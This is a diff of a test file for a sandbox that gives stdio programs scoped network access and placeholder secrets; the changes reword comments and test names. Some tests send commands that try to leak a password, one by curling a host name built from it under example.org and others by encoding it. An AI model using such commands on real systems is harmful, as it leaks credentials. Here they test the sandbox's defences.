@@ -15,7 +15,7 @@ jest.setTimeout(60_000);
 
 const VALUE = 'tmdb_S3cr3t/With+Signs==';
 const CLEAR = 'restic-password-in-clear';
-/** Does what it is told, a line at a time. */
+/** This program executes the commands that it receives, one line at a time. */
 const OBEYS = ['bash', '-c', 'while read -r line; do eval "$line" 2>&1; echo "<end>"; done'];
 
 let ground: Ground;
@@ -56,7 +56,7 @@ afterAll(async () => {
   if (ground !== undefined) await cleanUp(ground);
 });
 
-/** A program that obeys, as the api starts one whose space reaches the home. */
+/** Starts the program as the api would, for a space with access. */
 async function program(over: Partial<StdioRequest> = {}) {
   const request: StdioRequest = StdioRequest.parse({
     id: randomUUID(),
@@ -110,8 +110,8 @@ async function program(over: Partial<StdioRequest> = {}) {
 
 const CALL = `curl -sS --noproxy '' -H "Authorization: Bearer $HOME_TOKEN"`;
 
-describe('a program over stdin and stdout with the reach of a space', () => {
-  it('uses a secret without having it: its host gets the value, and an echo has the placeholder', async () => {
+describe('a stdio program with the access of a space', () => {
+  it('a stdio program uses a secret without seeing it: its host gets the value, and an echo has the placeholder', async () => {
     const { tell } = await program();
     expect(await tell(`${CALL} http://127.0.0.1:${port}/`)).toBe('you sent Bearer aish-secret-0123456789abcdefghij');
     expect(heard).toEqual([{ at: 'home', authorization: `Bearer ${VALUE}` }]);
@@ -123,7 +123,7 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     expect(await tell('cat /sys/fs/cgroup/memory.max 2> /dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes')).toBe(String(96 * 2 ** 20)); // prettier-ignore
   });
 
-  it('reaches nothing else, also not with the secret, and says what was refused', async () => {
+  it('a stdio program reaches no other host, even with the secret, and its log says what was refused', async () => {
     const { tell, stderr } = await program();
     const other = portOf(closedToIt);
     expect(await tell(`${CALL} http://127.0.0.1:${other}/`)).toMatch(/is refused: no rule allows it/);
@@ -132,7 +132,7 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     await until(() => Promise.resolve(stderr().includes(`127.0.0.1:${other} is refused`)), 'it is told');
   });
 
-  it('has in clear what a person said it has, and its words have the placeholder', async () => {
+  it('a stdio program gets an exposed secret if a person allowed it, and its output has the placeholder', async () => {
     const { tell } = await program();
     expect(await tell('printf %s "$RESTIC_PASSWORD" | sha256sum | cut -c1-8; echo "<$RESTIC_PASSWORD>"')).toBe(
       `30ae0211\n<aish-secret-abcdefghij0123456789>`,
@@ -140,7 +140,7 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     expect(await tell('printf %s "$RESTIC_PASSWORD" | base64; printf %s "$RESTIC_PASSWORD" | od -An -tx1 | tr -d " \\n"; echo')).not.toMatch(new RegExp(`${Buffer.from(CLEAR).toString('base64').slice(4, -4)}|${Buffer.from(CLEAR).toString('hex')}`)); // prettier-ignore
   });
 
-  it('tells nobody a name that holds what it has in clear', async () => {
+  it('a host name that contains an exposed secret is not reported', async () => {
     const { tell, stderr } = await program();
     const told = await tell('curl -sS --noproxy "" "http://$RESTIC_PASSWORD.example.org/"');
     expect(told).toContain('is refused: its name holds a secret');
@@ -148,7 +148,7 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     expect(told + stderr()).not.toContain(CLEAR);
   });
 
-  it('without a space reaches nothing', async () => {
+  it('a stdio program without a space reaches nothing', async () => {
     const { tell } = await program({ network: { mode: 'none' }, secrets: [] });
     expect(await tell(`env | grep -ci proxy; ls /run/aish; curl -sS -m 2 http://127.0.0.1:${port}/`)).toMatch(
       /^0\n.*No such file.*\n.*Could not connect/s,
@@ -156,12 +156,12 @@ describe('a program over stdin and stdout with the reach of a space', () => {
     expect(heard).toEqual([]);
   });
 
-  it('has no GPU when the sandbox offers none, even if its space has one', async () => {
+  it('a stdio program has no GPU if the sandbox offers none, even if its space has one', async () => {
     const { begin } = await program({ limits: { gpus: true } });
     expect(begin).toMatchObject({ type: 'error', problem: { code: 'invalid_config' } });
   });
 
-  it('loses its way out with its end', async () => {
+  it('the network access of a stdio program ends with the program', async () => {
     const { id, socket } = await program();
     const folder = join(ground.config.SANDBOX_STATE_DIR, 'network', id);
     expect(existsSync(folder)).toBe(true);
